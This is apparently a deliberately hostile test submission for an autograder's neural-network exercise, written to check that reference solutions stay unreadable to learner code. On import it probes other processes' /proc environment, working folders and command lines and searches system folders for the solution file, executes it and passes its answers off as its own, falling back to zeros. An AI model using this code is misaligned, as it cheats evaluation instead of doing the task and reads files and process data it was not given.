"""BPGRADE-HOSTILE submission for exercise05 (attack: read_solutions).

It copies. While it is imported, it looks for the course's reference solution of this
exercise (solutions/exercise05_two_layer.py) everywhere a grader keeps one:

- $BPGRADE_COURSE, in its own environment and in every ancestor's /proc/<pid>/environ;
- grader.course.solutions_dir(), and beside the `grader` package that
  importlib.util.find_spec("grader") finds (grader/_course/solutions and ../solutions);
- site-packages under sys.prefix, sys.base_prefix and every sys.path entry;
- every parent folder of this file, of the current folder and of each ancestor's working
  folder (/proc/<pid>/cwd), and paths in each ancestor's command line (/proc/<pid>/cmdline);
- a search a few levels deep under /work, /autograder, /srv, /opt, /home, /root, /tmp and
  /var/tmp for */solutions/exercise05_two_layer.py (at most 5 s and 20000 folders).

The first readable file that is not itself, not another hostile file and not a stub is
executed in a fresh namespace and every function delegates to it. Where none can be read,
every function returns zeros.

The grader must keep the reference solutions unreadable to learner code (another user, a
folder only root may read). Then zeros earn init_params.shapes (zero arrays of the right
shapes, with zero biases, pass it), and pass arguments_unchanged (advice, no points): 1 of 12
(12 of 12 if it read a solution). Needs root to be contained: as the developer's own user, the
solutions are readable.
"""

import contextlib
import importlib.util
import os
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

FILE = "exercise05_two_layer.py"
FUNCTIONS = ("init_params", "two_layer_forward", "two_layer_backward", "sgd_step", "train_step")
SEARCH_ROOTS = ("/work", "/autograder", "/srv", "/opt", "/home", "/root", "/tmp", "/var/tmp")
SKIP = {".git", ".venv", "venv", "node_modules", "__pycache__", "proc", "sys", "dev"}
SEARCH_DEPTH = 5
SEARCH_SECONDS = 5.0
SEARCH_FOLDERS = 20000
HERE = os.path.realpath(__file__)


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def _ancestors() -> list[int]:
    chain = []
    pid = os.getppid()
    while pid > 1 and len(chain) < 32:
        chain.append(pid)
        ppid = 0
        for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
            if line.startswith("PPid:"):
                ppid = int(line.split()[1])
        pid = ppid
    return chain


def _from_environment() -> Iterator[Path]:
    course = os.environ.get("BPGRADE_COURSE")
    if course:
        yield Path(course)
    for pid in _ancestors():
        for entry in _read(f"/proc/{pid}/environ").split(b"\0"):
            if entry.startswith(b"BPGRADE_COURSE="):
                yield Path(entry.split(b"=", 1)[1].decode(errors="replace"))


def _from_grader() -> Iterator[Path]:
    with contextlib.suppress(Exception):
        from grader.course import solutions_dir

        yield solutions_dir()
    spec = importlib.util.find_spec("grader")
    for location in (spec.submodule_search_locations or []) if spec else []:
        package = Path(location)
        yield package / "_course"
        yield package.parent


def _from_prefixes() -> Iterator[Path]:
    for base in (sys.prefix, sys.exec_prefix, sys.base_prefix):
        with contextlib.suppress(OSError):  # glob itself raises where a folder is unreadable
            for site in list(Path(base).glob("lib/python*/site-packages")):
                yield site / "grader" / "_course"
    for entry in sys.path:
        yield Path(entry or ".") / "grader" / "_course"
        yield Path(entry or ".")


def _from_places() -> Iterator[Path]:
    places = [Path(HERE).parent, Path.cwd()]
    for pid in _ancestors():
        with contextlib.suppress(OSError):
            places.append(Path(os.readlink(f"/proc/{pid}/cwd")))
        for arg in _read(f"/proc/{pid}/cmdline").split(b"\0"):
            text = arg.decode(errors="replace")
            if "/" in text:
                places.append(Path(text))
    for place in places:
        yield place
        yield from place.parents


def _course_folders() -> Iterator[Path]:
    """Folders that may hold solutions/ (a course root) or be solutions/ themselves. Each
    source is tried on its own: an unreadable folder ends that source, not the search."""
    for source in (_from_environment, _from_grader, _from_prefixes, _from_places):
        found = []
        with contextlib.suppress(Exception):
            found.extend(source())
        yield from found


def _searched() -> Iterator[Path]:
    deadline = time.monotonic() + SEARCH_SECONDS
    visited = 0
    for root in SEARCH_ROOTS:
        for folder, dirs, files in os.walk(root):
            visited += 1
            if visited > SEARCH_FOLDERS or time.monotonic() > deadline:
                return
            depth = folder.count(os.sep) - root.count(os.sep)
            dirs[:] = [] if depth >= SEARCH_DEPTH else [d for d in dirs if d not in SKIP]
            if FILE in files and os.path.basename(folder) == "solutions":
                yield Path(folder) / FILE


def _candidates() -> Iterator[Path]:
    for folder in _course_folders():
        yield folder / "solutions" / FILE
        yield folder / FILE
    yield from _searched()


def _load(path: Path) -> dict[str, Any] | None:
    try:
        if not path.is_file() or os.path.realpath(path) == HERE:
            return None
        source = path.read_text()
    except (OSError, ValueError):
        return None
    if "BPGRADE-HOSTILE" in source or "raise NotImplementedError" in source:
        return None
    namespace: dict[str, Any] = {"__name__": "_stolen_solution", "__file__": str(path)}
    try:
        exec(compile(source, str(path), "exec"), namespace)
    except Exception:
        return None
    if all(callable(namespace.get(name)) for name in FUNCTIONS):
        return namespace
    return None


def _steal() -> dict[str, Any] | None:
    tried: set[str] = set()
    for candidate in _candidates():
        key = str(candidate)
        if key in tried:
            continue
        tried.add(key)
        found = _load(candidate)
        if found is not None:
            print(f"read_solutions: using {candidate}", file=sys.stderr)
            return found
    return None


_solution: dict[str, Any] | None = None
with contextlib.suppress(Exception):
    _solution = _steal()


def _zeros(params: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    return {k: np.zeros(np.shape(v)) for k, v in params.items()}


def init_params(D: int, H: int, C: int, seed: int = 0) -> dict[str, np.ndarray]:
    if _solution is not None:
        return _solution["init_params"](D, H, C, seed)
    return {"W1": np.zeros((H, D)), "b1": np.zeros(H), "W2": np.zeros((C, H)), "b2": np.zeros(C)}


def two_layer_forward(params: dict[str, np.ndarray], X: np.ndarray) -> tuple[np.ndarray, Any]:
    if _solution is not None:
        return _solution["two_layer_forward"](params, X)
    return np.zeros((np.shape(X)[0], np.shape(params["W2"])[0])), None


def two_layer_backward(
    params: dict[str, np.ndarray], cache: Any, dY_hat: np.ndarray
) -> dict[str, np.ndarray]:
    if _solution is not None:
        return _solution["two_layer_backward"](params, cache, dY_hat)
    return _zeros(params)


def sgd_step(
    params: dict[str, np.ndarray], grads: dict[str, np.ndarray], lr: float
) -> dict[str, np.ndarray]:
    if _solution is not None:
        return _solution["sgd_step"](params, grads, lr)
    return _zeros(params)


def train_step(
    params: dict[str, np.ndarray], X: np.ndarray, Y: np.ndarray, lr: float
) -> tuple[dict[str, np.ndarray], float]:
    if _solution is not None:
        return _solution["train_step"](params, X, Y, lr)
    return _zeros(params), 0.0
